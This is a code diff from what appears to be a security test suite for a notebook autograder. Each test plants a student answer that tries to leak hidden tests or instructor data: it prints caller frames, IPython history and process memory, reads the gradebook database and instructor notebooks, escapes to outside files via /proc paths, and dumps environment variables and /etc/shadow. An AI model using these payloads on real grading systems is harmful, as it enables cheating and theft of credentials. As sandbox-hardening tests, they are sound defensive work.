@@ -18,7 +18,9 @@ def printed_arguments(entry: Entry) -> None:
 def written_arguments(entry: Entry) -> None:
     """Writes its arguments to every stream there is, backwards and in base64 too."""
     entry.first("import base64, logging, os, sys, warnings\nfrom IPython.display import HTML")
-    entry.answer(places=PLACES + """
+    entry.answer(
+        places=PLACES
+        + """
     text = f"{n} {k}"
     for shown in (text, text[::-1], base64.b64encode(text.encode()).decode()):
         sys.stderr.write(shown)
@@ -28,7 +30,8 @@ def written_arguments(entry: Entry) -> None:
         warnings.warn(shown)
         display(HTML(f"<b>{shown}</b>"))
         display({"text/plain": shown}, raw=True)
-    return 0""")
+    return 0"""
+    )
 
 
 @attack(LEAK)
@@ -67,11 +70,22 @@ def twice(f, x):
 def remembered_arguments(entry: Entry) -> None:
     """Remembers what the tests call it with, and prints it in a later cell of its own."""
     entry.answer(
-        correlate="seen = []\ndef cross_correlate1d(x, w):\n    seen.append(x.tolist())\n    return x",
+        correlate="seen = []\ndef cross_correlate1d(x, w):\n"
+        "    seen.append(x.tolist())\n    return x",
         places=PLACES + "    seen.append(n)\n    return 0",
         twice="def twice(f, x):\n    seen.append(f(x))",
     )
     entry.last("print(seen)")
+
+
+@attack(LEAK)
+def arguments_in_a_visible_check(entry: Entry) -> None:
+    """Remembers what hidden tests call it with, and tells it when a visible check calls."""
+    entry.answer(
+        correlate="seen = []\ndef cross_correlate1d(x, w):\n"
+        "    seen.append(x.tolist())\n    return x",
+        places=PLACES + "    print(seen)\n    raise ValueError(seen)",
+    )
 
 
 @attack(LEAK)
@@ -81,14 +95,17 @@ def arguments_in_a_file(entry: Entry) -> None:
 import tempfile
 from pathlib import Path
 folders = [Path.cwd(), Path.home(), Path("/tmp"), Path("/dev/shm"), Path(OUTSIDE)]""")
-    entry.answer(places=PLACES + """
+    entry.answer(
+        places=PLACES
+        + """
     for folder in folders:
         try:
             with (folder / "seen.txt").open("a") as file:
                 file.write(f"{n} ")
         except OSError:
             pass
-    return 0""")
+    return 0"""
+    )
     entry.last("""
 for folder in folders:
     try:
@@ -101,27 +118,33 @@ for folder in folders:
 def arguments_in_a_picture(entry: Entry) -> None:
     """Draws what it is called with, as a figure and as the value of a later cell."""
     entry.first("import matplotlib.pyplot as plt\nfrom IPython.display import SVG, Latex, Markdown")
-    entry.answer(places=PLACES + """
+    entry.answer(
+        places=PLACES
+        + """
     display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg'><text>{n}</text></svg>"))
     display(Markdown(f"**{n}**"), Latex(f"${n}$"))
     plt.title(f"{n}")
     global title
     title = f"{n}"
-    return 0""")
+    return 0"""
+    )
     entry.last("title")
 
 
 @attack(LEAK)
 def callers(entry: Entry) -> None:
     """Prints the variables, the source and the constants of everybody who calls it."""
-    entry.answer(places=PLACES + """
+    entry.answer(
+        places=PLACES
+        + """
     import inspect, linecache, sys
     frame = sys._getframe(1)
     while frame is not None:
         print(frame.f_locals, frame.f_code.co_consts, frame.f_code.co_names)
         print(linecache.getlines(frame.f_code.co_filename))
         frame = frame.f_back
-    return 0""", twice="""
+    return 0""",
+        twice="""
 def twice(f, x):
     import inspect
     for name in ("__code__", "__closure__", "__globals__", "__module__", "__wrapped__", "__doc__"):
@@ -133,26 +156,30 @@ def twice(f, x):
     for cell in getattr(f, "__closure__", None) or ():
         print(cell.cell_contents)
     print(getattr(f, "__globals__", {}).get("In"))
-    return 0""")
+    return 0""",
+    )
 
 
 @attack(LEAK)
 def history(entry: Entry) -> None:
     """Prints IPython's history, its database, and the cells that Python keeps for tracebacks."""
-    entry.answer(letter="""
+    entry.answer(
+        letter="""
 def letter(points):
     import linecache
     ip = get_ipython()
     print(In, ip.user_ns.get("_ih"), ip.history_manager.input_hist_raw)
     print(list(ip.history_manager.get_range(0)), list(linecache.cache.values()))
-    return "F" """)
+    return "F" """
+    )
     entry.last("%history -g QUOKKA")
 
 
 @attack(LEAK)
 def all_objects(entry: Entry) -> None:
     """Searches all objects of its process, and their code, for what belongs to a test."""
-    entry.answer(letter="""
+    entry.answer(
+        letter="""
 def letter(points):
     import gc, types
     for thing in gc.get_objects():
@@ -166,13 +193,15 @@ def letter(points):
             for value in thing:
                 if isinstance(value, str) and ("QUOK" + "KA" in value or "AXO" + "LOTL" in value):
                     print(value)
-    return "F" """)
+    return "F" """
+    )
 
 
 @attack(LEAK)
 def own_memory(entry: Entry) -> None:
     """Reads the memory of its own process, byte for byte, in search of what forks inherit."""
-    entry.answer(area="""
+    entry.answer(
+        area="""
 import ctypes, re
 wanted = re.compile(b"QUOK" + b"KA.{9}|AXO" + b"LOTL.{9}|DIARY.PLATYPUS.{6}", re.DOTALL)
 text = "x" * 300_000
@@ -195,7 +224,8 @@ near = id(text) - (1 << 20)
 for step in range(100):  # memory that is surely there
     print(set(wanted.findall(ctypes.string_at(id(text), 290_000))))
     break
-area = 0""")
+area = 0"""
+    )
 
 
 @attack(LEAK)
@@ -216,34 +246,40 @@ get_ipython().events.register("pre_run_cell", lambda info=None: heard.append(inf
 @attack(LEAK)
 def source_folder(entry: Entry) -> None:
     """Reads the instructor's notebook, by the path of the course and from where it stands."""
-    entry.answer(area="""
+    entry.answer(
+        area="""
 from pathlib import Path
 for root in (Path(COURSE), *Path.cwd().parents, Path.cwd()):
     for path in [*root.glob("source/*/*.ipynb"), *root.glob("autograded/*/*/*.ipynb")]:
         print(path.read_text())
-area = 0""")
+area = 0"""
+    )
 
 
 @attack(LEAK)
 def gradebook(entry: Entry) -> None:
     """Reads the text of the tests in the gradebook."""
-    entry.answer(area="""
+    entry.answer(
+        area="""
 import sqlite3
 from pathlib import Path
 for root in (Path(COURSE), *Path.cwd().parents):
     if (root / "gradebook.db").exists():
         with sqlite3.connect(root / "gradebook.db") as db:
             print(db.execute("select source from source_cell").fetchall())
-area = 0""")
+area = 0"""
+    )
 
 
 @attack(LEAK)
 def private_files(entry: Entry) -> None:
     """Reads files outside of the course: by paths, links, and folders one above the other."""
-    entry.answer(area="""
+    entry.answer(
+        area="""
 import os
 from pathlib import Path
-for way in (OUTSIDE, "/proc/1/root" + OUTSIDE, "/proc/self/root" + OUTSIDE, "/proc/self/cwd/../../../.."):
+ways = (OUTSIDE, "/proc/1/root" + OUTSIDE, "/proc/self/root" + OUTSIDE, "/proc/self/cwd/../../..")
+for way in ways:
     try:
         print(Path(way, "diary.txt").read_text())
     except OSError as error:
@@ -253,13 +289,15 @@ try:
     print(Path("link/diary.txt").read_text())
 except OSError as error:
     print(type(error).__name__)
-area = 0""")
+area = 0"""
+    )
 
 
 @attack(LEAK)
 def environment(entry: Entry) -> None:
     """Prints the environment, the home folder, users, and the paths of the grading machine."""
-    entry.answer(area="""
+    entry.answer(
+        area="""
 import getpass, os, platform, site, socket, sys
 from pathlib import Path
 print(dict(os.environ), Path.home(), sys.path, sys.argv, sys.executable)
@@ -269,7 +307,8 @@ for path in ("/etc/shadow", "/proc/1/environ", "/proc/self/environ", "~/.bashrc"
     except OSError as error:
         print(error.strerror)
 print(os.listdir("/"), os.listdir(Path.home()), os.path.exists(COURSE), os.path.exists(OUTSIDE))
-area = 0""")
+area = 0"""
+    )
 
 
 @attack(LEAK)
@@ -301,7 +340,8 @@ send("hello")""")
 @attack(LEAK)
 def network_by_other_ways(entry: Entry) -> None:
     """Opens raw, netlink, packet and vsock sockets, and listens itself."""
-    entry.answer(area="""
+    entry.answer(
+        area="""
 import socket, urllib.request
 for family in range(46):
     for kind in (1, 2, 3, 5):
@@ -318,13 +358,15 @@ try:
     urllib.request.urlopen(f"http://127.0.0.1:{PORT}/{NAME}", timeout=1)
 except OSError as error:
     print(error)
-area = 0""")
+area = 0"""
+    )
 
 
 @attack(LEAK)
 def names_asked_for(entry: Entry) -> None:
     """Defines ten thousand names, to learn by their getters which the tests ask for."""
-    entry.answer(area="""
+    entry.answer(
+        area="""
 import sys
 asked = []
 class Space(dict):
@@ -337,5 +379,6 @@ class Space(dict):
 ip = get_ipython()
 ip.user_ns.update({f"name_{n}": n for n in range(10_000)})
 ip.user_ns = Space(ip.user_ns)
-area = 0""")
+area = 0"""
+    )
     entry.last("print(asked)")
